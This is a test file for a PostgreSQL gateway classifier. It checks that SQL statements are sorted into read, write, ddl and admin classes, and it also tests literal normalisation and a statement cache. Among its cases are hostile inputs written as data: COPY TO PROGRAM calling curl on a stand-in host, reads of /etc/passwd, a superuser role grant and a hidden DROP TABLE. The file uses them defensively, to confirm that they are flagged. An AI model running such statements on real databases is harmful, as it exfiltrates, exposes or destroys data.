/** Statement → class, tables and facts, from PostgreSQL's own parser. One row per case, as data. */
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, loadParser } from '../../gateway/pg/classify.js';
import { StatementCache, fastKey } from '../../gateway/pg/statement-cache.js';
import { FUNCTION_CLASS, STATEMENT_CLASS } from '../../gateway/pg/sql-registry.js';

before(() => loadParser());

interface Case {
  sql: string;
  class: string;
  tables?: string[];
  ops?: Record<string, string[]>;
  unfiltered?: boolean;
}

const CASES: Case[] = [
  { sql: 'SELECT 1', class: 'read', tables: [] },
  { sql: 'SELECT * FROM orders o JOIN sales.items i ON i.order_id = o.id', class: 'read', tables: ['public.orders', 'sales.items'] },
  { sql: 'SELECT * FROM "Sales"."Orders"', class: 'read', tables: ['sales.orders'] },
  { sql: 'SELECT (SELECT max(id) FROM a) FROM b WHERE EXISTS (SELECT 1 FROM c)', class: 'read', tables: ['public.a', 'public.b', 'public.c'] },
  { sql: 'INSERT INTO sales.orders (id) VALUES (1) RETURNING *', class: 'write', tables: ['sales.orders'] },
  { sql: 'INSERT INTO sales.orders SELECT * FROM staging.orders', class: 'write', ops: { write: ['sales.orders'], read: ['staging.orders'] } },
  { sql: 'INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v', class: 'write', tables: ['public.t'] },
  { sql: 'UPDATE sales.orders SET amount = 0 WHERE id = 1', class: 'write', tables: ['sales.orders'], unfiltered: false },
  { sql: 'UPDATE sales.orders SET amount = 0', class: 'write', tables: ['sales.orders'], unfiltered: true },
  { sql: 'DELETE FROM sales.orders', class: 'write', tables: ['sales.orders'], unfiltered: true },
  { sql: 'DELETE FROM sales.orders USING sales.x WHERE orders.id = x.id', class: 'write', ops: { write: ['sales.orders'], read: ['sales.x'] }, unfiltered: false },
  { sql: 'MERGE INTO sales.t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1', class: 'write', ops: { write: ['sales.t'], read: ['public.s'] } },
  { sql: 'WITH moved AS (DELETE FROM a WHERE x RETURNING *) INSERT INTO b SELECT * FROM moved', class: 'write', tables: ['public.a', 'public.b'] },
  { sql: 'WITH x AS (INSERT INTO sales.t VALUES (1) RETURNING *) SELECT * FROM x', class: 'write', tables: ['sales.t'] },
  { sql: 'WITH recent AS (SELECT * FROM orders) SELECT * FROM recent', class: 'read', tables: ['public.orders'] },
  { sql: 'SELECT * FROM accounts FOR UPDATE', class: 'write', tables: ['public.accounts'] },
  { sql: 'SELECT * INTO newt FROM t', class: 'ddl', ops: { ddl: ['public.newt'], write: ['public.newt'], read: ['public.t'] } },
  { sql: 'CREATE TABLE sales.n AS SELECT * FROM public.o', class: 'ddl', ops: { ddl: ['sales.n'], write: ['sales.n'], read: ['public.o'] } },
  { sql: 'CREATE TABLE t (id int)', class: 'ddl', tables: ['public.t'] },
  { sql: 'ALTER TABLE sales.t ADD COLUMN c int', class: 'ddl', tables: ['sales.t'] },
  { sql: 'DROP TABLE sales.a, b', class: 'ddl', tables: ['sales.a', 'public.b'] },
  { sql: 'DROP SCHEMA sales CASCADE', class: 'ddl', tables: [] },
  { sql: 'TRUNCATE sales.t', class: 'ddl', tables: ['sales.t'] },
  { sql: 'CREATE INDEX ON t (a)', class: 'ddl', tables: ['public.t'] },
  { sql: 'CREATE VIEW v AS SELECT * FROM t', class: 'ddl' },
  { sql: 'CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql', class: 'ddl' },
  { sql: 'GRANT SELECT ON t TO bob', class: 'admin' },
  { sql: 'REVOKE ALL ON t FROM bob', class: 'admin' },
  { sql: 'GRANT admin TO bob', class: 'admin' },
  { sql: 'CREATE ROLE bob LOGIN', class: 'admin' },
  { sql: 'ALTER ROLE bob SUPERUSER', class: 'admin' },
  { sql: 'SET ROLE bob', class: 'admin' },
  { sql: 'SET SESSION AUTHORIZATION bob', class: 'admin' },
  { sql: 'SET search_path = sales', class: 'admin' },
  { sql: 'SET standard_conforming_strings = off', class: 'admin' },
  { sql: "SELECT set_config('role', 'bob', false)", class: 'admin' },
  { sql: 'SET statement_timeout = 1000', class: 'read' },
  { sql: 'ALTER SYSTEM SET work_mem = 1', class: 'admin' },
  { sql: 'COPY t FROM STDIN', class: 'write', tables: ['public.t'] },
  { sql: 'COPY t TO STDOUT', class: 'read', tables: ['public.t'] },
  { sql: 'COPY (SELECT * FROM sales.o) TO STDOUT', class: 'read', tables: ['sales.o'] },
  { sql: "COPY t TO PROGRAM 'curl evil'", class: 'admin' },
  { sql: "COPY t FROM '/etc/passwd'", class: 'admin' },
  { sql: 'VACUUM t', class: 'admin' },
  { sql: 'ANALYZE t', class: 'admin' },
  { sql: 'DO $$ BEGIN EXECUTE $q$DROP TABLE t$q$; END $$', class: 'admin' },
  { sql: 'CALL do_things(1)', class: 'write' },
  { sql: 'EXPLAIN ANALYZE DELETE FROM sales.o', class: 'write', tables: ['sales.o'], unfiltered: true },
  { sql: 'EXPLAIN DELETE FROM sales.o', class: 'read', tables: ['sales.o'] },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM sales.o', class: 'read', tables: ['sales.o'] },
  { sql: 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1 WHERE b', class: 'write', tables: ['public.t'] },
  { sql: 'LISTEN jobs', class: 'read' },
  { sql: "NOTIFY jobs, 'x'", class: 'write' },
  { sql: 'LOCK TABLE sales.t IN ACCESS EXCLUSIVE MODE', class: 'write', tables: ['sales.t'] },
  { sql: "SELECT nextval('seq')", class: 'write' },
  { sql: "SELECT pg_read_file('/etc/passwd')", class: 'admin' },
  { sql: "SELECT query_to_xml('delete from t', true, false, '')", class: 'admin' },
  { sql: 'SELECT pg_terminate_backend(1)', class: 'admin' },
  { sql: 'SELECT my_schema.my_function(1)', class: 'read' },
  { sql: 'BEGIN', class: 'read' },
  { sql: 'COMMIT', class: 'read' },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM sales.o', class: 'read', tables: ['sales.o'] },
  { sql: 'CREATE EXTENSION dblink', class: 'admin' },
  { sql: 'CREATE DATABASE x', class: 'admin' },
  { sql: 'REFRESH MATERIALIZED VIEW mv', class: 'write', tables: ['public.mv'] },
];

for (const c of CASES) {
  test(`classifies: ${c.sql}`, () => {
    const a = analyze(c.sql);
    assert.ok(a.ok, a.ok ? '' : a.error);
    assert.equal(a.statements.length, 1);
    const s = a.statements[0]!;
    assert.equal(s.class, c.class);
    if (c.tables) assert.deepEqual([...s.tables].sort(), [...c.tables].sort());
    if (c.ops) {
      const got = Object.fromEntries(s.ops.filter((o) => o.tables.length).map((o) => [o.class, [...o.tables].sort()]));
      assert.deepEqual(got, Object.fromEntries(Object.entries(c.ops).map(([k, v]) => [k, [...v].sort()])));
    }
    if (c.unfiltered !== undefined) assert.equal(s.unfiltered, c.unfiltered);
  });
}

test('every statement in a multi-statement string is classified separately', () => {
  const a = analyze("SELECT * FROM a; INSERT INTO sales.o VALUES ('x'); DROP TABLE b");
  assert.ok(a.ok);
  assert.deepEqual(a.statements.map((s) => s.class), ['read', 'write', 'ddl']);
  assert.equal(a.statements[1]!.normalized, 'INSERT INTO sales.o VALUES ($1)');
});

test('PREPARE keeps the inner statement; EXECUTE and DEALLOCATE name it', () => {
  const a = analyze('PREPARE p(int) AS UPDATE sales.o SET a = $1');
  assert.ok(a.ok);
  assert.equal(a.statements[0]!.prepare?.name, 'p');
  assert.equal(a.statements[0]!.prepare?.inner.class, 'write');
  assert.equal(a.statements[0]!.prepare?.inner.unfiltered, true);
  const e = analyze('EXECUTE p(1)');
  assert.ok(e.ok);
  assert.equal(e.statements[0]!.execute, 'p');
  const d = analyze('DEALLOCATE ALL');
  assert.ok(d.ok);
  assert.equal(d.statements[0]!.deallocate, '*');
});

test('a statement the parser cannot parse is reported, never classified', () => {
  const a = analyze('SELEC 1');
  assert.equal(a.ok, false);
});

test('normalized SQL replaces literals with placeholders', () => {
  const a = analyze("UPDATE sales.o SET note = 'card 4111 1111 1111 1111' WHERE id = 42");
  assert.ok(a.ok);
  assert.equal(a.statements[0]!.normalized, 'UPDATE sales.o SET note = $1 WHERE id = $2');
});

test('the cache returns the same analysis for the same statement with other literals', () => {
  const cache = new StatementCache(10);
  const a = cache.analyze('SELECT * FROM t WHERE id = 1');
  const b = cache.analyze('SELECT * FROM t WHERE id = 2');
  const c = cache.analyze("SELECT * FROM t WHERE id = 'x'");
  assert.equal(a, b);
  assert.equal(a, c);
  assert.equal(cache.misses, 1);
});

test('the fast key never joins statements whose digits are not all constants', () => {
  const cache = new StatementCache(10);
  const off = cache.analyze('EXPLAIN (ANALYZE 0) DELETE FROM t');
  const on = cache.analyze('EXPLAIN (ANALYZE 1) DELETE FROM t');
  assert.ok(off.ok && on.ok);
  // Whatever ANALYZE 0 means, ANALYZE 1 runs the DELETE: it must never be read as a plain EXPLAIN.
  assert.equal(on.statements[0]!.class, 'write');
  assert.equal(fastKey("SELECT 'a'"), null);
  assert.equal(fastKey('SELECT 1 -- c'), null);
  assert.deepEqual(fastKey('SELECT a1 FROM t WHERE x = 5')?.key, 'SELECT a1 FROM t WHERE x = ?');
});

test('the cache is bounded', () => {
  const cache = new StatementCache(3);
  for (let i = 0; i < 10; i++) cache.analyze(`SELECT c${i} FROM t`);
  const again = cache.analyze('SELECT c0 FROM t');
  assert.ok(again.ok);
  assert.equal(cache.misses, 11);
});

test('registry entries name real parse-tree node types and classes', () => {
  for (const [k, v] of Object.entries(STATEMENT_CLASS)) {
    assert.match(k, /^[A-Z][A-Za-z]+Stmt$/);
    assert.ok(['read', 'write', 'ddl', 'admin'].includes(v));
  }
  for (const [k, v] of Object.entries(FUNCTION_CLASS)) {
    assert.match(k, /^[a-z0-9_]+$/);
    assert.ok(['write', 'admin'].includes(v));
  }
});

test('function calls the registry does not know are recorded for the catalog check', () => {
  const a = analyze('SELECT my_schema.my_function(1), lower(name), nextval($1) FROM t');
  assert.ok(a.ok);
  const s = a.statements[0]!;
  assert.deepEqual([...s.functions].sort(), ['lower', 'my_schema.my_function']);
  assert.equal(s.class, 'write'); // nextval is in the registry
});
